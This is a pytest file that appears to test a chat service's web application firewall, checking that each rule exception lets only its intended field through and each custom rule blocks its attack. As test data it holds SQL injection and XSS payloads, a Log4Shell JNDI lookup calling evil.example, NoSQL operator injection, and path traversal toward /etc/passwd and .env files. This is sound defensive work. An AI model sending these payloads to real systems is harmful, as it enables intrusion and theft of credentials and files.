"""Each exception and each rule of our own in deploy/waf: what it lets pass or stops, and no more than that."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.operation.waf.attacks import request
from tests.operation.waf.sink import Sink
from tests.operation.waf.site import WAF, Site, send
from tests.plugins.samples import JPEG, WEBP, png
from tests.waiting import wait_until

ATTACK = "1' UNION SELECT 1,2 FROM users-- <script>alert(1)</script>"
ROOM = "/api/v1/rooms/06h1w46y97wh380z0cja"
RETURN = "/api/v1/login/return"
UNSUBSCRIBE = "/mail-notifications/unsubscribe/06h2ggnab8124ppbswmr.wvfeEE0G5ulrJn52G0syUQ"
MESSAGE = f"{ROOM}/messages/06h1w46y97wh380z0cja-10"


def json_request(path: str, body: str, method: str = "POST") -> bytes:
    return request(method, path, "Content-Type: application/json", body=body.encode())


def field(name: str, path: str, method: str = "POST") -> bytes:
    return json_request(path, f'{{"{name}": "{ATTACK}"}}', method)


def tool(argument: str, path: str) -> bytes:
    """A call of a tool of the Model Context Protocol."""
    call = f'{{"name": "send_message", "arguments": {{"{argument}": "{ATTACK}"}}}}'
    return json_request(path, f'{{"jsonrpc": "2.0", "method": "tools/call", "params": {call}}}')


def form_request(path: str, **fields: str) -> bytes:
    """A form that is posted, as a provider's page does."""
    body = "&".join(f"{name}={quote(value)}" for name, value in fields.items()).encode()
    return request("POST", path, "Content-Type: application/x-www-form-urlencoded", body=body)


def two_part_form(path: str) -> bytes:
    """The same as multipart/form-data."""
    body = b'--b\r\nContent-Disposition: form-data; name="List-Unsubscribe"\r\n\r\nOne-Click\r\n--b--\r\n'
    return request("POST", path, "Content-Type: multipart/form-data; boundary=b", body=body)


def looking_for(path: str) -> bytes:
    return request("GET", f"{path}?limit=50&text={quote(ATTACK)}")


def by_get(**parameters: str) -> bytes:
    given = "&".join(f"{name}={quote(value)}" for name, value in parameters.items())
    return request("GET", f"/graphql?{given}")


def picture(path: str, kind: str) -> bytes:
    body = {"png": png(), "jpeg": JPEG, "webp": WEBP}.get(kind, b"<svg/>")
    return request("PUT", path, f"Content-Type: image/{kind}", body=body)


def piece(path: str, kind: str = "application/offset+octet-stream") -> bytes:
    """A part of a file, as large as the page sends them by tus."""
    head = (f"Content-Type: {kind}", "Upload-Offset: 0", "Tus-Resumable: 1.0.0")
    return request("PATCH", path, *head, body=ATTACK.encode() * (1_000_000 // len(ATTACK)))


# Of each exception: requests that pass with it and not without, and like ones that are stopped all the same.
EXCLUSIONS: dict[str, tuple[list[bytes], list[bytes]]] = {
    "9590100": (
        [json_request(f"{ROOM}/messages", '{"body": "%uff41 GET /x HTTP/1.1"}')],
        [request("POST", "/api/v1/login", "Content-Type: text/plain", body=b"%uff41")],
    ),
    "9590110": (
        [
            field("body", f"{ROOM}/messages"),
            field("body", f"{ROOM}/messages/06h1", "PATCH"),
            field("body", "/api/v1/scheduled"),
            field("body", "/api/v1/drafts", "PUT"),
        ],
        [
            field("client_id", f"{ROOM}/messages"),
            field("body", f"{ROOM}/members"),
            field("reply_to", "/api/v1/drafts", "PUT"),
            json_request(f"{ROOM}/messages", f'{{"body": {{"x": "{ATTACK}"}}}}'),
            json_request(f"{ROOM}/messages?body={quote(ATTACK)}", '{"body": "x"}'),
        ],
    ),
    "9590291": (
        [
            field("note", "/api/v1/reminders"),
            field("note", "/api/v1/reminders", "PATCH"),
            field("note", "/api/v1/join-requests"),
        ],
        [
            field("at", "/api/v1/reminders"),
            field("room", "/api/v1/join-requests"),
            field("note", "/api/v1/join-requests/answers"),
            field("note", "/api/v1/saved"),
        ],
    ),
    "9590292": (
        [field("url", "/api/v1/link-previews/06h1-1/remove")],
        [field("urls", "/api/v1/link-previews/06h1-1/remove"), field("url", "/api/v1/saved")],
    ),
    "9590293": (
        [tool("text", "/mcp")],
        [tool("room", "/mcp"), tool("text", "/api/v1/saved"), field("text", "/mcp")],
    ),
    "9590180": (
        [field("text", f"{ROOM}/commands"), field("text", f"{ROOM}/commands/suggestions")],
        [field("client_id", f"{ROOM}/commands"), field("text", f"{ROOM}/messages")],
    ),
    "9590190": (
        [field("old", "/api/v1/me/password", "PUT"), field("new", "/api/v1/me/password", "PUT")],
        [field("other", "/api/v1/me/password", "PUT"), field("old", "/api/v1/login")],
    ),
    "settings\\./": (
        [
            json_request("/api/v1/plugins/wordfilter", f'{{"settings": {{"reason": "{ATTACK}"}}}}'),
            json_request(
                "/api/v1/plugins/wordfilter", f'{{"settings": {{"words": ["{ATTACK}"]}}}}'
            ),
        ],
        [
            field("do", "/api/v1/plugins/wordfilter"),
            json_request("/api/v1/rooms", f'{{"settings": {{"reason": "{ATTACK}"}}}}'),
        ],
    ),
    "9590230": (
        [field("section", f"{ROOM}/preferences", "PATCH")],
        [field("other", f"{ROOM}/preferences", "PATCH"), field("section", ROOM, "PATCH")],
    ),
    "9590240": (
        [field("reason", f"{ROOM}/bans/06h1", "PUT")],
        [field("seconds", f"{ROOM}/bans/06h1", "PUT"), field("reason", ROOM, "PATCH")],
    ),
    "9590260": (
        [field("text", "/api/v1/reports")],
        [field("reason", "/api/v1/reports"), field("text", "/api/v1/reports/06h1-2-3/settle")],
    ),
    "9590270": (
        [
            field("note", "/api/v1/reports/06h1-2-3/settle"),
            field("ban_reason", "/api/v1/reports/06h1-2-3/settle"),
        ],
        [field("steps", "/api/v1/reports/06h1-2-3/settle"), field("note", "/api/v1/reports")],
    ),
    "9590285": (
        [field("text", "/api/v1/announcement", "PUT")],
        [field("until", "/api/v1/announcement", "PUT"), field("text", "/api/v1/invites")],
    ),
    "9590280": (
        [field("text", "/api/v1/me/status", "PUT")],
        [field("until", "/api/v1/me/status", "PUT"), field("text", "/api/v1/me", "PATCH")],
    ),
    "9590288": (
        [field(name, "/api/v1/me/profile", "PATCH") for name in ("title", "pronouns", "about")],
        [field("time_zone", "/api/v1/me/profile", "PATCH"), field("about", "/api/v1/me", "PATCH")],
    ),
    "9590289": (
        [
            field("question", "/api/v1/polls"),
            json_request("/api/v1/polls", f'{{"options": ["a", "{ATTACK}"]}}'),
            json_request("/api/v1/polls", f'{{"options": [{", ".join(["1"] * 9)}, "{ATTACK}"]}}'),
        ],
        [field("ends_at", "/api/v1/polls"), field("question", "/api/v1/polls/06h1/vote", "PUT")],
    ),
    "9590286": (
        [
            *(field(name, "/api/v1/bots") for name in ("username", "name", "description")),
            field("description", "/api/v1/bots/06h1", "PATCH"),
        ],
        [field("locked", "/api/v1/bots/06h1", "PATCH"), field("name", "/api/v1/bots/06h1/tokens")],
    ),
    "9590287": (
        [field("label", "/api/v1/bots/06h1/tokens")],
        [field("scopes", "/api/v1/bots/06h1/tokens"), field("label", "/api/v1/bots")],
    ),
    "9590284": (
        [field("title", "/api/v1/groups"), field("title", "/api/v1/groups/design", "PATCH")],
        [field("name", "/api/v1/groups"), field("title", "/api/v1/groups/design/leave")],
    ),
    "9590290": (
        [field("picture", "/api/v1/emoji")],
        [field("name", "/api/v1/emoji"), field("picture", "/api/v1/reports")],
    ),
    "9590295": (
        [
            picture(path, kind)
            for path in ("/api/v1/me/picture", f"{ROOM}/picture")
            for kind in ("png", "jpeg", "webp")
        ],
        [picture("/api/v1/me/picture", "svg+xml"), picture(f"{ROOM}/picture/x", "png")],
    ),
    "9590297": (
        [piece("/api/v1/uploads/06h1w46y97wh380z0cja")],
        [piece("/api/v1/uploads/06h1", "text/plain"), piece(f"{ROOM}/messages")],
    ),
    "9590250": (
        [
            looking_for("/api/v1/rooms"),
            looking_for(f"{ROOM}/members"),
            looking_for("/api/v1/directory"),
            looking_for("/api/v1/search"),
            looking_for("/api/v1/admin/users"),
            looking_for("/api/v1/admin/rooms"),
        ],
        [
            looking_for("/api/v1/admin/sessions"),
            request("GET", f"/api/v1/rooms?after={quote(ATTACK)}&text=x"),
            json_request(f"/api/v1/rooms?text={quote(ATTACK)}", '{"name": "x"}'),
        ],
    ),
    "9590220": (
        [field("name", "/api/v1/me/passkeys/0123456789abcdef", "PATCH")],
        [
            field("other", "/api/v1/me/passkeys/0123456789abcdef", "PATCH"),
            field("name", "/api/v1/me/passkeys", "PATCH"),
        ],
    ),
    "9590200": (
        [
            request("GET", f"{RETURN}?state=s&code={quote(ATTACK)}"),
            request("GET", f"{RETURN}?state=s&error=x&error_description={quote(ATTACK)}"),
        ],
        [
            request("GET", f"{RETURN}?state={quote(ATTACK)}&code=c"),
            request("GET", f"/api/v1/login/methods?code={quote(ATTACK)}"),
        ],
    ),
    "9590210": (
        [
            form_request(RETURN, state="s", code="c"),
            form_request("/api/v1/oidc/company/logout", logout_token="eyJ0.eyJ1.x-_y"),
        ],
        [
            form_request("/api/v1/login", username="ada", password="x"),
            form_request(RETURN, state=ATTACK, code="c"),
            form_request("/api/v1/oidc/company/logout", other=ATTACK),
        ],
    ),
    "9590215": (
        [
            form_request(UNSUBSCRIBE, **{"List-Unsubscribe": "One-Click"}),
            two_part_form(UNSUBSCRIBE),
            form_request(UNSUBSCRIBE),
        ],
        [
            form_request(UNSUBSCRIBE, **{"List-Unsubscribe": ATTACK}),
            two_part_form(RETURN),
            form_request("/mail-notifications", other="x"),
        ],
    ),
    "values\\./": (
        [
            json_request(
                f"{MESSAGE}/interactions", f'{{"part": "p", "values": {{"a": ["{ATTACK}"]}}}}'
            ),
            json_request(
                "/api/v1/me/preferences", f'{{"values": {{"page.a": "{ATTACK}"}}}}', "PATCH"
            ),
        ],
        [
            field("part", f"{MESSAGE}/interactions"),
            json_request(
                f"{MESSAGE}/interactions", f'{{"part": "p", "values": {{"{ATTACK}": ["x"]}}}}'
            ),
            json_request(f"{ROOM}/messages", f'{{"values": {{"a": ["{ATTACK}"]}}}}'),
        ],
    ),
    "answer\\./": (
        [
            json_request(
                "/api/v1/login/proceed", f'{{"flow": "f", "answer": {{"password": "{ATTACK}"}}}}'
            )
        ],
        [
            field("flow", "/api/v1/login/proceed"),
            json_request("/api/v1/login/begin", f'{{"answer": {{"password": "{ATTACK}"}}}}'),
        ],
    ),
    "9590120": (
        [field("body", "/hooks/builds"), field("text", "/hooks/builds")],
        [field("id", "/hooks/builds"), field("text", f"{ROOM}/messages")],
    ),
    "9590130": (
        [
            field("name", "/api/v1/rooms"),
            field("topic", "/api/v1/rooms"),
            field("description", "/api/v1/rooms"),
            field("name", ROOM, "PATCH"),
        ],
        [field("kind", "/api/v1/rooms"), field("name", f"{ROOM}/members")],
    ),
    "9590140": (
        [field("password", "/api/v1/register"), field("password", "/api/v1/login")],
        [field("username", "/api/v1/login"), field("password", "/api/v1/rooms")],
    ),
    "9590150": ([field("name", "/api/v1/register")], [field("name", "/api/v1/login")]),
    "9590160": (
        [
            by_get(query=f'{{search(text: "{ATTACK}") {{nodes {{id}}}}}}'),
            by_get(query="{me{id}}", variables=f'{{"t": "{ATTACK} ../../etc/passwd"}}'),
        ],
        [
            by_get(query="{me{id}}", operationName=ATTACK),
            by_get(query="{me{id}}", other="../../etc/passwd"),
            request("GET", f"/?query={quote(ATTACK)}"),
            request("GET", f"/api/v1/rooms?variables={quote(ATTACK)}"),
        ],
    ),
    "9590170": (
        [request("GET", "/api/v1/users/jan.old"), request("GET", "/api/v1/users/dev.log")],
        [request("GET", "/api/v1/users/jan.old/x.bak"), request("GET", "/jan.old")],
    ),
    "query$/": (
        [field("query", "/graphql"), json_request("/graphql", f'[{{"query": "{ATTACK}"}}]')],
        [
            field("operationName", "/graphql"),
            field("query", "/api/v1/login"),
            field("querys", "/graphql"),
        ],
    ),
    "variables\\./": (
        [
            json_request(
                "/graphql", f'{{"query": "x", "variables": {{"input": {{"body": "{ATTACK}"}}}}}}'
            ),
            json_request("/graphql", f'[{{"query": "x", "variables": {{"ids": ["{ATTACK}"]}}}}]'),
        ],
        [
            json_request("/graphql", f'{{"query": "x", "extensions": {{"a": "{ATTACK}"}}}}'),
            json_request("/graphql", f'{{"query": "x", "variables": {{"{ATTACK}": 1}}}}'),
            json_request("/api/v1/login", f'{{"variables": {{"a": "{ATTACK}"}}}}'),
        ],
    ),
}

# Of each rule of our own: requests that it stops, and like ones that pass.
RULES: dict[str, tuple[list[bytes], list[bytes]]] = {
    "9590300": (
        [
            json_request("/api/v1/login", '{"query": "{me{id}}"}'),
            json_request("/graphql/x", '[{"variables": {"a": 1}}]'),
        ],
        [json_request("/graphql", '{"query": "{me{id}}", "variables": {"a": 1}}')],
    ),
    "9590301": (
        [
            json_request(f"{ROOM}/messages", '{"values": {"a": ["x"]}}'),
            json_request("/api/v1/login", '{"answer": {"password": "x"}}'),
        ],
        [
            json_request(f"{MESSAGE}/interactions", '{"part": "p", "values": {"a": ["x"]}}'),
            json_request("/api/v1/me/preferences", '{"values": {"page.theme": "dark"}}', "PATCH"),
            json_request("/api/v1/login/proceed", '{"flow": "f", "answer": {"password": "x"}}'),
        ],
    ),
    "9590302": (
        [json_request("/api/v1/login", '{"settings": {"words": ["x"]}}')],
        [json_request("/api/v1/plugins/wordfilter", '{"do": "set", "settings": {"words": ["x"]}}')],
    ),
    "9590310": (
        [
            json_request("/api/v1/login", '{"username": {"$ne": null}}'),
            json_request("/api/v1/plugins/ldap", '{"settings": {"roles": {"$ne": "x"}}}'),
            json_request("/mcp", '{"params": {"_meta": {"io.x-y/$ne": "x"}}}'),
            request("GET", "/api/v1/rooms?after[$gt]="),
        ],
        [
            json_request("/api/v1/login", '{"user_name-1.x": {"ne": null}}'),
            json_request("/mcp", '{"params": {"_meta": {"io.x-y/z": "2026-07-28"}}}'),
            json_request("/api/v1/plugins/ldap", '{"settings": {"roles": {"Ärzte + Co": "x"}}}'),
        ],
    ),
    "9590320": (
        [
            request("GET", "/", "User-Agent: ${jndi:ldap://evil.example/a}"),
            request("GET", "/", "Cookie: a=%24%7B%24%7Blower:j%7Dndi:x}"),
        ],
        [request("GET", "/", "User-Agent: ${product}/1.0 {x}")],
    ),
    "9590330": (
        [request("GET", "/x%3Cy"), request("GET", "/static/....//x"), request("GET", "/.env.local"),
         request("GET", "/WEB-INF/web.xml")],
        [
            request("GET", "/api/v1/users/Ada%20(Sales)%20%3Cada%3E"),
            request("GET", "/.well-known/security.txt"),
            request("GET", "/static/app.1a2b.js"),
        ],
    ),
    "9590340": (
        [request("GET", "/api/v1/me", "Cookie: chat_session=a%20b"), request("GET", "/", "Cookie: chat_device=(x)")],
        [request("GET", "/api/v1/me", "Cookie: chat_session=06h1.Ab-_9; other=a%20(b)")],
    ),
    "9590001": (
        [json_request("/api/v1/rooms", f'{{"members": [{",".join(["1"] * 600)}]}}')],
        [json_request("/api/v1/rooms", f'{{"members": [{",".join(["1"] * 400)}]}}')],
    ),
    "9590002": (
        [json_request("/api/v1/login", '{"username": "a"')],
        [json_request("/api/v1/login", '{"username": "a"}')],
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with Sink() as sink:
        yield sink


@pytest.fixture(scope="module")
def site(sink: Sink, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with Site(tmp_path_factory.mktemp("site") / "nginx", sink.port) as site:
        yield site


def passes(site: Site, sink: Sink, what: bytes) -> bool:
    """Whether the request reaches the upstream."""
    before = len(sink.reached)
    status = send(site, what)
    reached = len(sink.reached) > before
    assert reached == (status == 200), (status, what)
    return reached


def ids_in(*names: str) -> set[str]:
    text = "".join((WAF / name).read_text() for name in names)
    return set(re.findall(r"\bid:(\d+)", text)) | set(
        re.findall(r"!ARGS:/\S*?(\w+(?:\\\.|\$)/)", text)
    )


@pytest.mark.parametrize("exclusion", EXCLUSIONS)
def test_an_exception_lets_its_field_pass_and_nothing_else(
    site: Site, sink: Sink, tmp_path: Path, exclusion: str
) -> None:
    legal, attacks = EXCLUSIONS[exclusion]
    assert [each for each in legal if not passes(site, sink, each)] == []
    assert [each for each in attacks if passes(site, sink, each)] == []
    with Site(tmp_path / "without", sink.port, without=exclusion) as without:
        assert [each for each in legal if passes(without, sink, each)] == [], "it is not needed"


@pytest.mark.parametrize("rule", RULES)
def test_a_rule_of_our_own_stops_its_attack_and_nothing_else(
    site: Site, sink: Sink, rule: str
) -> None:
    attacks, legal = RULES[rule]
    for attack in attacks:
        before = len(site.matches())
        assert not passes(site, sink, attack), attack
        wait_until(lambda known=before: len(site.matches()) > known)  # logged after the answer
        assert rule in site.matches()[-1]["rules"], attack
    assert [each for each in legal if not passes(site, sink, each)] == []


def test_every_exception_and_every_rule_has_its_test() -> None:
    assert ids_in("exclusions-before.conf", "exclusions-after.conf") == set(EXCLUSIONS)
    untried = {"9590000", "9590003"}  # chooses the parser; ends what cost too much
    assert ids_in("rules.conf", "modsecurity.conf") == set(RULES) | untried
